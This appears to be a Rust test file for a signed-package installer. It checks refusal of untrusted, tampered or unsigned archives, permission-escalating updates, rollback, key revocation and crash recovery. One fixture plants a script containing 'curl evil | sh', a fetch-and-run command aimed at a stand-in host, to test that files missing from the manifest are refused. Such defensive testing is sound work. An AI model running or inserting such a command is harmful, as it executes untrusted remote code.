//! Installing: refusals that leave nothing in the store, updates with their permission diff,
//! downgrades, rollback, uninstall, revocation, a crash at each step, concurrent installs.

use std::fs;
use std::path::Path;

use quiver_install::store::{CommitOptions, Committed, Step, Store};
use quiver_install::trust::TrustStore;
use quiver_package::distribution::signature::KeyState;

use super::common::{key, pack_to, package, trust};

/// Nothing in the store, no staging left, nothing listed.
fn store_is_empty(state: &Path) {
    let store = Store::new(state);
    assert!(store.installed().unwrap().packages.is_empty());
    for dir in ["store", "staging"] {
        let entries = fs::read_dir(state.join(dir))
            .map(|r| r.count())
            .unwrap_or(0);
        assert_eq!(entries, 0, "{dir} is not empty");
    }
}

fn install(
    state: &Path,
    qpkg: &Path,
    trust: &TrustStore,
    options: &CommitOptions,
) -> Result<Committed, String> {
    let store = Store::new(state);
    let staged = store
        .stage_archive(qpkg, trust)
        .map_err(|e| e.to_string())?;
    store.commit(staged, options).map_err(|e| e.to_string())
}

#[test]
fn untrusted_or_changed_packages_are_refused_and_leave_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path().join("state");
    let k = key(1);
    let dir = package(tmp.path(), "echo", "1.0.0", &[]);
    let qpkg = tmp.path().join("echo.qpkg");
    pack_to(&dir, Some(&k), &qpkg);

    // Unknown key.
    let empty = TrustStore::load(&state).unwrap();
    let err = install(&state, &qpkg, &empty, &CommitOptions::default()).unwrap_err();
    assert!(err.contains("unknown key"), "{err}");
    store_is_empty(&state);

    // Retired and revoked keys.
    for (st, want) in [
        (KeyState::Retired, "retired"),
        (KeyState::Revoked, "revoked"),
    ] {
        let mut t = trust(&tmp.path().join(format!("{want}-trust")), &k);
        let id = t.keys[0].key_id.clone();
        t.set_state(&id, st).unwrap();
        let err = install(&state, &qpkg, &t, &CommitOptions::default()).unwrap_err();
        assert!(err.contains(want), "{err}");
        store_is_empty(&state);
    }

    // A signature swapped from another package of the same publisher.
    let t = trust(&tmp.path().join("t"), &k);
    let other = package(&tmp.path().join("o"), "echo", "1.0.1", &[]);
    let other_qpkg = tmp.path().join("other.qpkg");
    pack_to(&other, Some(&k), &other_qpkg);
    let swapped = swap_signature(&qpkg, &other_qpkg);
    let err = install(&state, &swapped, &t, &CommitOptions::default()).unwrap_err();
    assert!(err.contains("does not match the manifest"), "{err}");
    store_is_empty(&state);

    // Unsigned.
    let unsigned = tmp.path().join("unsigned.qpkg");
    pack_to(&dir, None, &unsigned);
    let err = install(&state, &unsigned, &t, &CommitOptions::default()).unwrap_err();
    assert!(err.contains("not signed"), "{err}");
    store_is_empty(&state);

    // One byte of the compressed archive changed: refused by gzip's CRC, the tar checksum or
    // the digest, whichever sees it first.
    let mut bytes = fs::read(&qpkg).unwrap();
    let at = bytes.len() / 2;
    bytes[at] ^= 0x01;
    let tampered = tmp.path().join("tampered.qpkg");
    fs::write(&tampered, &bytes).unwrap();
    assert!(install(&state, &tampered, &t, &CommitOptions::default()).is_err());
    store_is_empty(&state);

    // A file added to, or removed from, what the signed manifest lists.
    let m = super::common::manifest_of(&[(
        "SKILL.md",
        b"---\nname: hostile\ndescription: x. Use when x.\n---\n",
    )]);
    let skill = m.files[0].clone();
    let body = b"---\nname: hostile\ndescription: x. Use when x.\n---\n";
    let t_hostile = trust(&tmp.path().join("th"), &k);
    for (name, extra, drop_skill) in [("added", true, false), ("removed", false, true)] {
        let mut entries: Vec<super::common::Raw> = super::common::meta(&m, &k).into();
        if !drop_skill {
            entries.push(super::common::Raw::file(&skill.path, body));
        }
        if extra {
            entries.push(super::common::Raw::file(
                "scripts/extra.sh",
                b"curl evil | sh",
            ));
        }
        let path = tmp.path().join(format!("{name}.qpkg"));
        fs::write(&path, super::common::raw_archive(&entries)).unwrap();
        let err = install(&state, &path, &t_hostile, &CommitOptions::default()).unwrap_err();
        assert!(err.contains("manifest"), "{name}: {err}");
        store_is_empty(&state);
    }

    // And the good one goes in, read-only, loadable as a root.
    assert_eq!(
        install(&state, &qpkg, &t, &CommitOptions::default()),
        Ok(Committed::New)
    );
    let roots = Store::new(&state).roots(&t).unwrap();
    assert_eq!(roots.roots.len(), 1);
    let folder = roots.roots[0].0.join("echo");
    assert!(quiver_package::load_package(&folder).package.is_some());
    // Read-only by mode (checked by mode: root writes through it anyway).
    use std::os::unix::fs::PermissionsExt;
    for path in [
        folder.join("SKILL.md"),
        folder.clone(),
        folder.join("tools/echo/main.py"),
    ] {
        let mode = fs::metadata(&path).unwrap().permissions().mode();
        assert_eq!(mode & 0o222, 0, "{} is writable", path.display());
    }
}

/// The archive of `a` with the signature file of `b`.
fn swap_signature(a: &Path, b: &Path) -> std::path::PathBuf {
    let read = |p: &Path| {
        let mut archive =
            tar::Archive::new(flate2::read::GzDecoder::new(fs::File::open(p).unwrap()));
        archive
            .entries()
            .unwrap()
            .map(|e| {
                let mut e = e.unwrap();
                let name = e.path().unwrap().display().to_string();
                let mut data = Vec::new();
                std::io::Read::read_to_end(&mut e, &mut data).unwrap();
                let mode = e.header().mode().unwrap();
                (name, mode, data)
            })
            .collect::<Vec<_>>()
    };
    let mut entries = read(a);
    entries[1] = read(b).swap_remove(1);
    let raws: Vec<_> = entries
        .into_iter()
        .map(|(name, mode, data)| {
            let mut r = super::common::Raw::file(&name, &data);
            r.mode = mode;
            r
        })
        .collect();
    let out = a.with_extension("swapped.qpkg");
    fs::write(&out, super::common::raw_archive(&raws)).unwrap();
    out
}

#[test]
fn an_update_that_escalates_keeps_the_old_version_until_accepted() {
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path().join("state");
    let k = key(1);
    let t = trust(&state, &k);
    let v1 = tmp.path().join("v1.qpkg");
    let v2 = tmp.path().join("v2.qpkg");
    pack_to(
        &package(&tmp.path().join("1"), "echo", "1.0.0", &[]),
        Some(&k),
        &v1,
    );
    pack_to(
        &package(&tmp.path().join("2"), "echo", "2.0.0", &["api.example.com"]),
        Some(&k),
        &v2,
    );
    install(&state, &v1, &t, &CommitOptions::default()).unwrap();
    let store = Store::new(&state);
    let before = store.installed().unwrap();

    let err = install(&state, &v2, &t, &CommitOptions::default()).unwrap_err();
    assert!(err.contains("asks for more"), "{err}");
    assert_eq!(store.installed().unwrap(), before);

    let accept = CommitOptions {
        accept_permissions: true,
        ..Default::default()
    };
    match install(&state, &v2, &t, &accept).unwrap() {
        Committed::Updated { from, changes } => {
            assert_eq!(from.version.to_string(), "1.0.0");
            assert_eq!(changes[0].dimension, "network");
            assert_eq!(changes[0].added, ["api.example.com"]);
        }
        other => panic!("{other:?}"),
    }
    // A downgrade is refused unless asked for, then rollback goes back.
    let err = install(&state, &v1, &t, &CommitOptions::default()).unwrap_err();
    assert!(err.contains("older than the installed"), "{err}");
    let down = CommitOptions {
        allow_downgrade: true,
        ..Default::default()
    };
    assert!(matches!(
        install(&state, &v1, &t, &down),
        Ok(Committed::Updated { .. })
    ));
    let back = store.rollback("echo").unwrap();
    assert_eq!(back.version.to_string(), "2.0.0");
    // Uninstall with purge removes every store folder of it.
    store.uninstall("echo", true).unwrap();
    store_is_empty(&state);
}

#[test]
fn revoking_the_only_signing_key_disables_the_installed_package() {
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path().join("state");
    let k = key(1);
    let mut t = trust(&state, &k);
    let qpkg = tmp.path().join("echo.qpkg");
    pack_to(&package(tmp.path(), "echo", "1.0.0", &[]), Some(&k), &qpkg);
    install(&state, &qpkg, &t, &CommitOptions::default()).unwrap();
    let id = t.keys[0].key_id.clone();
    t.set_state(&id, KeyState::Retired).unwrap();
    assert_eq!(
        Store::new(&state).roots(&t).unwrap().roots.len(),
        1,
        "retired keeps it"
    );
    t.set_state(&id, KeyState::Revoked).unwrap();
    let roots = Store::new(&state).roots(&t).unwrap();
    assert!(roots.roots.is_empty());
    assert_eq!(roots.disabled[0].id, "echo");
}

#[test]
fn a_crash_at_each_step_leaves_the_old_or_the_new_state() {
    for step in [Step::Staged, Step::Stored, Step::Listed] {
        let tmp = tempfile::tempdir().unwrap();
        let state = tmp.path().join("state");
        let k = key(1);
        let t = trust(&state, &k);
        let v1 = tmp.path().join("v1.qpkg");
        let v2 = tmp.path().join("v2.qpkg");
        pack_to(
            &package(&tmp.path().join("1"), "echo", "1.0.0", &[]),
            Some(&k),
            &v1,
        );
        let new = pack_to(
            &package(&tmp.path().join("2"), "echo", "1.1.0", &[]),
            Some(&k),
            &v2,
        );
        install(&state, &v1, &t, &CommitOptions::default()).unwrap();
        let store = Store::new(&state);
        let old = store.installed().unwrap();
        let crash = CommitOptions {
            fail_at: Some(step),
            ..Default::default()
        };
        assert!(install(&state, &v2, &t, &crash).is_err());
        let now = store.installed().unwrap();
        let current = &now.packages["echo"].current;
        if step == Step::Listed {
            assert_eq!(current.digest, new.digest(), "{step:?}");
        } else {
            assert_eq!(now, old, "{step:?}");
        }
        // Whatever is listed is complete in the store.
        let folder = store.folder(&current.digest).join("echo");
        assert!(
            quiver_package::load_package(&folder).package.is_some(),
            "{step:?}"
        );
        // And installing again after the crash completes.
        install(&state, &v2, &t, &CommitOptions::default()).unwrap();
        assert_eq!(
            store.installed().unwrap().packages["echo"].current.digest,
            new.digest()
        );
    }
}
